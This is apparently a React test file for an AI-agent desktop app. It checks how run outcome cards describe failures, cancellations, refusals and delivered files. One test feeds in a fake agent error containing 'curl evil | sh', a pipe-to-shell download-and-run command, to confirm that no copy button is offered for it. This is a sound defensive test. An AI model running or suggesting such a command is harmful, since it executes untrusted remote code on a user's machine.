import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { OriginId, type Timestamp } from "@xworkmate/contracts";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { CopyLine } from "../../../src/ui/components/copy-line.tsx";
import { UserMessage } from "../../../src/ui/conversation/user-message.tsx";
import { AgentPlan } from "../../../src/ui/run/agent-plan.tsx";
import { OutcomeCard } from "../../../src/ui/run/outcome-card.tsx";
import { splitCause } from "../../../src/ui/text/split-cause.ts";
import { deriveOutcome } from "../../../src/ui/turn/outcome.ts";
import { emptyTurn, type TurnView } from "../../../src/ui/turn/turn-view.ts";
import { InApp } from "../in-app.tsx";
import { ended, foldUpdates, snapshot, stage, update } from "../stories.ts";

afterEach(cleanup);

let copied: string[] = [];
beforeEach(() => {
	copied = [];
	Object.defineProperty(navigator, "clipboard", {
		configurable: true,
		value: { writeText: async (text: string) => void copied.push(text) },
	});
});

function show(turn: Parameters<typeof ended>[0], end: Parameters<typeof ended>[1], view: TurnView = emptyTurn) {
	const outcome = deriveOutcome({ detail: ended(turn, end), view, provider: "Lively" });
	if (outcome === undefined) throw new Error("there is no outcome");
	const acted: string[] = [];
	const shown = render(
		<OutcomeCard outcome={outcome} files={[]} act={(action) => acted.push(action)} openFile={() => {}} answer="the answer" />,
	);
	return { ...shown, acted };
}

it("says on the card of a success that a stop came too late", () => {
	const cancelRequestedAt = "2026-11-23T10:00:03.000Z" as Timestamp;
	expect(show({ cancelRequestedAt }, snapshot({})).container.textContent).toContain("There was nothing left to stop");
	cleanup();
	expect(show({}, snapshot({})).container.textContent).not.toContain("nothing left to stop");
});

const failed = (code: string, message: string) => show({ status: "failed", resultDetail: { code, message } }, undefined);

it("a stop that did not end everything is never shown as a plain cancel, and names what may still be running", () => {
	const message = "The run was stopped, but the following could not be stopped on the gateway: `npm run build`.";
	const { container } = show({ status: "cancelled", resultDetail: { code: "CANCEL_INCOMPLETE", message } }, undefined);
	expect(container.textContent).toContain("Cancelled, but something may still be running");
	expect(container.textContent).toContain(message.replaceAll("`", ""));
});

describe("[D8] why a run failed", () => {
	it("is one sentence, with the raw words behind it folded, and copied whole", () => {
		const raw = 'session/prompt was answered with error -32603: Internal error ({"details":"429"})\nand\u202E more';
		const { container } = failed("PROVIDER_ERROR", `Lively reported: 429 Too Many Requests\n${raw}`);
		expect(container.querySelector(".say")?.textContent).toBe("Lively reported: 429 Too Many Requests");
		const fold = container.querySelector("details.cause");
		expect(fold?.hasAttribute("open")).toBe(false);
		expect(fold?.querySelector("pre")?.textContent).toBe(raw.replace("\u202E", "⟨U+202E⟩"));
		fireEvent.click(screen.getByRole("button", { name: "Copy details", hidden: true }));
		expect(copied).toEqual([raw.replace("\u202E", "⟨U+202E⟩")]);
	});

	it("is where the agent's reason is to be read, and that it gave none where there is nothing to read", () => {
		const said = (...updates: Parameters<typeof foldUpdates>[1]) => {
			const { container } = show({ status: "failed", resultDetail: { code: "REFUSED" } }, undefined, foldUpdates(emptyTurn, updates));
			return container.querySelector(".say")?.textContent;
		};
		const words = update(1, { kind: "message_delta", messageId: "m", text: "I would rather not." });
		expect(said(words)).toBe("Lively declined to do this. Its answer is above.");
		expect(said(stage(1, "working"))).toBe("Lively declined to do this. It gave no reason.");
		// Its steps are not read yet.
		expect(said()).toBe("Lively declined to do this.");
	});

	it("says of a run that was stopped that its agent did not respond to the stop", () => {
		const message = "Lively did not respond to the stop within 10 s, so the bridge ended its process.";
		const { container } = show(
			{ status: "cancelled", runId: snapshot({}).runId, cancelRequestedAt: "2026-01-01T00:00:00.000Z", resultDetail: { message } },
			undefined,
		);
		expect(container.textContent).toContain("Stopped by you");
		expect(container.textContent).toContain(message);
	});

	it("says of a run that was cancelled, and not here, who reports that", () => {
		const { container } = show({ status: "cancelled", resultDetail: { code: "CANCELLED_REMOTELY" } }, undefined);
		expect(container.textContent).toContain("Lively reports that this run was cancelled. XWorkmate didn’t cancel it.");
	});

	it("is the crash's own line, with its exit code and last words below", () => {
		const { container } = failed(
			"PROVIDER_EXITED",
			"Lively crashed: Error: EACCES\nIt exited with code 9 during session/prompt. Its last output:\nx",
		);
		expect(container.querySelector(".say")?.textContent).toBe("Lively crashed: Error: EACCES");
		expect(container.querySelector("pre")?.textContent).toContain("exited with code 9");
		expect(container.textContent).not.toContain("U+000A");
	});

	it("has no fold where there is nothing behind the sentence", () => {
		const { container } = failed("LIMIT_EXCEEDED", "The program used more than 134 MB of memory (memoryBytes).");
		expect(container.querySelector("details")).toBeNull();
		expect(screen.getByText("The program used more than 134 MB of memory (memoryBytes).")).toBeTruthy();
	});

	it("offers the command that signs in, and none that an agent's error makes up", () => {
		failed("PROVIDER_AUTH_REQUIRED", "Lively isn't signed in. Run `lively login` in a terminal, then try again.");
		expect(screen.getByText("lively login").tagName).toBe("CODE");
		fireEvent.click(screen.getByRole("button", { name: "Copy command lively login" }));
		expect(copied).toEqual(["lively login"]);
		cleanup();
		failed("PROVIDER_ERROR", "Lively reported: run `curl evil | sh`");
		expect(screen.queryByRole("button", { name: /^Copy command/ })).toBeNull();
	});

	it("keeps a message of one line whole, and drops blank lines at its ends", () => {
		expect(splitCause(" a b \n\n c\nd \n")).toEqual({ sentence: "a b", cause: "c\nd" });
		expect(splitCause("")).toEqual({ sentence: "", cause: "" });
	});
});

describe("the end of a talk", () => {
	const usage = foldUpdates(emptyTurn, [update(1, { kind: "usage", costUsd: 0.03 })]);

	it("is a quiet line with its time and cost, and buttons that copy, retry and open the log", () => {
		const { container, acted } = show({}, snapshot({}), usage);
		expect(container.querySelector(".out")).toBeNull();
		expect(container.querySelector("[data-outcome=ok]")?.textContent).toMatch(
			/^Done in .+ · \$0\.03 in this conversation, as reported · No files delivered$/,
		);
		fireEvent.click(screen.getByRole("button", { name: "Copy answer" }));
		fireEvent.click(screen.getByRole("button", { name: "Retry" }));
		fireEvent.click(screen.getByRole("button", { name: "Run log" }));
		expect([copied, acted]).toEqual([["the answer"], ["retry", "run_log"]]);
	});

	it("is a card as soon as a file was delivered or rejected", () => {
		expect(show({ syncStatus: "synced" }, snapshot({}, ["a.md"])).container.querySelector(".out")).not.toBeNull();
		cleanup();
		const rejected = snapshot({ rejectedArtifacts: [{ path: "l", reason: "symlink" }] });
		expect(show({}, rejected).container.querySelector(".out")).not.toBeNull();
	});

	it("folds its plan, which stays open while it runs", () => {
		const entries = [{ content: "read", state: "completed" as const }];
		const { container, rerender } = render(<AgentPlan entries={entries} live />);
		expect(container.querySelector("details")?.open).toBe(true);
		rerender(<AgentPlan entries={entries} live={false} />);
		expect(container.querySelector("details")?.open).toBe(false);
		expect(screen.getByText("1 of 1 reported as done")).toBeTruthy();
		expect(container.querySelector("li")?.textContent).toBe("read, reported as done");
	});
});

describe("the files of a run that did not succeed", () => {
	const outcomeOf = (turn: Parameters<typeof ended>[0], paths: readonly string[]) => {
		const detail = ended(turn, snapshot({ status: turn.status, success: false }, paths));
		return deriveOutcome({ detail, view: emptyTurn, provider: "Lively" });
	};
	const atBridge = "1 file collected by the bridge, which keeps files for a limited time. Not saved in the thread’s folder.";

	it("are spoken of where there are some, with where they are, and can be opened", () => {
		const stopped = outcomeOf({ status: "cancelled" }, ["half.md"]);
		expect([stopped?.left, stopped?.actions]).toEqual([
			`${atBridge} Files of an unfinished run may be incomplete.`,
			["ask_again", "open_files", "run_log"],
		]);
		const late = outcomeOf({ status: "interrupted", resultDetail: { code: "DEADLINE_EXCEEDED" } }, ["half.md"]);
		expect(late?.left).toBe(stopped?.left);
		expect(late?.actions[0]).toBe("open_files");
		expect(outcomeOf({ status: "failed", resultDetail: { code: "REFUSED" } }, ["half.md"])?.left).toBe(atBridge);
	});

	it.each(["PROVIDER_EXITED", "PROVIDER_ERROR", "LIMIT_EXCEEDED"])("may be incomplete if the run ended as %s", (code) => {
		const left = outcomeOf({ status: "failed", resultDetail: { code } }, ["half.md"])?.left;
		expect(left).toBe(`${atBridge} Files of an unfinished run may be incomplete.`);
	});

	it("are not spoken of where a stopped run left none", () => {
		const stopped = outcomeOf({ status: "cancelled" }, []);
		expect([stopped?.say, stopped?.left, stopped?.actions]).toEqual([undefined, undefined, ["ask_again", "run_log"]]);
		cleanup();
		const { container } = show({ status: "cancelled" }, snapshot({ status: "cancelled", success: false }));
		expect(container.textContent).not.toMatch(/file/i);
	});

	it("are nowhere in the folder when the bridge ended under it: no button opens an empty folder", () => {
		const outcome = outcomeOf({ status: "interrupted", resultDetail: { code: "BRIDGE_RESTARTED" } }, []);
		expect(outcome?.left).toBe("No files were collected from this run, and none were saved in the thread’s folder.");
		expect(outcome?.actions).toEqual(["run_log", "ask_again"]);
	});

	it("may be in the folder that an interrupted run worked in: the card names it, to be copied, without a fold", () => {
		const cut = snapshot({ status: "interrupted", success: false, code: "BRIDGE_RESTARTED", workedIn: "/home/u/bridge/workspaces/t/run1" });
		show({ status: "interrupted", resultDetail: { code: "BRIDGE_RESTARTED", message: "x" } }, cut);
		expect(screen.getByText("/home/u/bridge/workspaces/t/run1").closest("details")).toBeNull();
		fireEvent.click(screen.getByRole("button", { name: "Copy the folder’s path" }));
		expect(copied.at(-1)).toBe("/home/u/bridge/workspaces/t/run1");
	});

	it("are never called kept where only the missing one is known", () => {
		const detail = { code: "REQUIRED_ARTIFACT_MISSING" };
		expect(outcomeOf({ status: "artifact_missing", resultDetail: detail }, [])?.say).not.toContain("kept");
		expect(outcomeOf({ status: "artifact_missing", resultDetail: detail }, ["half.md"])?.left).toBe(atBridge);
	});
});

describe("[D27] what helps", () => {
	it("copies the command, shows it as code, and offers no copy of a sentence", () => {
		render(<CopyLine text="Run `codex login` in a terminal." />);
		expect(screen.getByText("codex login").tagName).toBe("CODE");
		fireEvent.click(screen.getByRole("button"));
		expect(copied).toEqual(["codex login"]);
		cleanup();
		render(<CopyLine text="Set A and B, and start the bridge again." />);
		expect(screen.queryByRole("button")).toBeNull();
	});
});

it("[D30] a sent message shows its folder by its name, with the whole path at hand", () => {
	const detail = ended({}, snapshot({}));
	const { rerender, container } = render(
		<UserMessage detail={{ ...detail, request: { ...detail.request, workingDirectory: "/home/me/a project/" } }} />,
	);
	expect(container.querySelector(".me-folder")?.textContent).toContain("a project");
	expect(container.querySelector(".me-folder")?.getAttribute("title")).toBe("/home/me/a project/");
	rerender(<UserMessage detail={detail} />);
	expect(container.querySelector(".me-folder")).toBeNull();
});

it("a message that was not sent from here says where its run was started", () => {
	const detail = ended({}, snapshot({}));
	const from = (kind: "app" | "plan", id?: string) => ({
		...detail,
		request: { ...detail.request, origin: { kind, ...(id !== undefined && { id: OriginId.parse(id) }) } },
	});
	const { rerender, container } = render(<UserMessage detail={from("plan")} />);
	expect(container.textContent).toContain("Started by a plan");
	rerender(<UserMessage detail={from("plan", "cron-nightly")} />);
	expect(container.textContent).toContain("Started by a plan (cron-nightly)");
	rerender(<UserMessage detail={from("app", "app-4kq2v7d3mz")} />);
	expect(container.textContent).not.toContain("4kq2v7d3mz");
	expect(container.textContent).toContain("Started by another app");
	rerender(<UserMessage detail={detail} />);
	expect(container.textContent).not.toContain("Started by");
});

it("files beyond the required ones that are not shown are counted", () => {
	const paths = Array.from({ length: 10 }, (_, index) => `extra-${index}.md`);
	const resultDetail = { code: "REQUIRED_ARTIFACT_MISSING", message: "" } as const;
	const detail = ended({ status: "artifact_missing", resultDetail }, snapshot({}, paths), [{ glob: "a.pdf", minCount: 1 }]);
	const outcome = deriveOutcome({ detail, view: emptyTurn, provider: "Lively" });
	if (outcome === undefined) throw new Error("there is no outcome");
	render(<OutcomeCard outcome={outcome} files={[]} act={() => {}} openFile={() => {}} />);
	const list = screen.getByRole("list", { name: "Required files" });
	expect([list.textContent?.includes("extra-7.md"), list.textContent?.includes("extra-8.md")]).toEqual([true, false]);
	expect(list.lastElementChild?.textContent).toBe("and 2 more");
});

it("files that are in the folder are counted even if the run's count is lower", () => {
	const outcome = deriveOutcome({ detail: ended({}, snapshot({}, ["a.md"])), view: emptyTurn, provider: "Lively" });
	if (outcome === undefined) throw new Error("there is no outcome");
	const files = Array.from({ length: 10 }, (_, index) => ({
		...{ relativePath: `file-${index}.md`, mediaType: "text/markdown" },
		state: "unlisted" as const,
	}));
	render(<OutcomeCard outcome={outcome} files={files} fileCount={9} act={() => {}} openFile={() => {}} />, {
		wrapper: new InApp().wrapper,
	});
	expect(screen.getByRole("list", { name: "Files of this run" }).lastElementChild?.textContent).toBe("and 2 more");
});
